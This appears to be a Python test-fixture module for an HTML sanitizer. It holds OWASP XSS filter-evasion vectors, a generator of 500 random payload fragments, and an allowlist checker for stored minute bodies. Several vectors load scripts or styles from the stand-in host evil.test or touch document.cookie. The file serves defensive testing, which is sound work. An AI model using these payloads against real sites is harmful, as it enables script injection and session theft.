# ruff: noqa: E501  a vector stands whole on its line
"""Words that mean harm: the vectors of OWASP's XSS filter evasion cheat sheet, and fragments made of their parts.

Every one of them, where it ran, would call `alert`.
"""

import random
from html.parser import HTMLParser

VECTORS = [
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    '<IMG SRC=# onmouseover="alert(1)">',
    '<IMG SRC= onmouseover="alert(1)">',
    '<IMG onmouseover="alert(1)">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC="jav&#x0D;ascript:alert(1);">',
    '<IMG SRC=java\0script:alert("XSS")>',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    '<SCRIPT/XSS SRC="https://evil.test/x.js"></SCRIPT>',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    '<SCRIPT/SRC="https://evil.test/x.js"></SCRIPT>',
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.test/x.js?< B >",
    "<SCRIPT SRC=//evil.test/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '\\";alert(1);//',
    "</script><script>alert(1);</script>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<BODY BACKGROUND="javascript:alert(1)">',
    '<IMG DYNSRC="javascript:alert(1)">',
    '<IMG LOWSRC="javascript:alert(1)">',
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<IMG SRC="livescript:[code]">',
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    '<BGSOUND SRC="javascript:alert(1);">',
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    "<STYLE>@import'https://evil.test/x.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<https://evil.test/x.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("https://evil.test/x.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(1))'>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "¼script¾alert(¢XSS¢)¼/script¾",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    '<TABLE BACKGROUND="javascript:alert(1)">',
    '<TABLE><TD BACKGROUND="javascript:alert(1)">',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image: url(\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061')\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.test/x.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=" type="image/svg+xml"></EMBED>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
    '<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(1)</SCRIPT>"></BODY></HTML>',
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT>alert(1)</SCRIPT>'\"-->",
    "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-',
    '<SCRIPT a=">" SRC="https://evil.test/x.js"></SCRIPT>',
    '<SCRIPT =">" SRC="https://evil.test/x.js"></SCRIPT>',
    '<SCRIPT a=">" \'\' SRC="https://evil.test/x.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="https://evil.test/x.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.test/x.js"></SCRIPT>',
    "<A HREF=\"javascript:document.location='https://evil.test/'\">XSS</A>",
    '<A HREF="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">XSS</A>',
    '<A HREF="  javascript:alert(1)">XSS</A>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#x1;javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<input autofocus onfocus=alert(1)>",
    '<sup data-footnote=""><img src=x onerror=alert(1)></sup>',
    '<sup data-footnote="11111111-1111-4111-8111-111111111111" onclick=alert(1)>x</sup>',
    '<a data-reference="11111111-1111-4111-8111-111111111111" href=javascript:alert(1)>x</a>',
    '<a data-kind="action" data-cites="TABASC33/01"><img src=x onerror=alert(1)></a>',
    "<template><script>alert(1)</script></template>",
    "<p><!-- --!><img src=x onerror=alert(1)> --></p>",
    "<x onclick=alert(1) style=position:fixed;inset:0>x</x>",
]
TAGS = ("img", "svg", "a", "p", "td", "li", "math", "iframe", "video", "details", "style", "sup", "table", "form", "x")
EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "ONLOAD", "on\nload", "onpointerenter")
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&#106;avascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "\x01javascript:alert(1)",
    "//evil.test/x",
)
QUOTES = ('"', "'", "", "`")
ENDS = (">", "/>", "", " >", ">x</a>", "></svg>", ">\n")


def generated(count: int, seed: int) -> list[str]:
    """`count` fragments put together from the parts that the vectors are made of; the same for the same seed."""
    chance = random.Random(seed)  # noqa: S311  no secret
    return [_fragment(chance) for _ in range(count)]


def _fragment(chance: random.Random) -> str:
    out = []
    for _ in range(chance.randint(1, 3)):
        quote = chance.choice(QUOTES)
        event = f" {chance.choice(EVENTS)}={quote}alert(1){quote}" if chance.random() < 0.7 else ""
        name = chance.choice(("src", "href", "xlink:href", "data", "action", "formaction", "style"))
        address = f" {name}={quote}{chance.choice(ADDRESSES)}{quote}" if chance.random() < 0.7 else ""
        within = chance.choice(
            ("", "<script>alert(1)</script>", "<!--", "]]>", "</style>", "</textarea>", "&lt;script&gt;")
        )
        out.append(f"<{chance.choice(TAGS)}{event}{address}{chance.choice(ENDS)}{within}")
    return "".join(out)


FRAGMENTS = [*VECTORS, *generated(500, 20261122)]

ALLOWED = {"p", "strong", "em", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "blockquote", "a", "sup"}
ATTRIBUTES = {
    "a": {"href", "rel", "data-reference", "class", "id", "aria-label"},
    "sup": {"data-footnote"},
    "ol": {"start"},
}


class _Faults(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()):
                self.found.append(f"{tag} {name}")
            if name == "href" and not (value or "").lower().startswith(("http://", "https://", "mailto:")):
                self.found.append(f"{tag} {name}={value}")


def faults(body: str) -> list[str]:
    """What of a stored body is outside the one subset that minutes are written in (model.md)."""
    parser = _Faults()
    parser.feed(body)
    parser.close()
    return parser.found
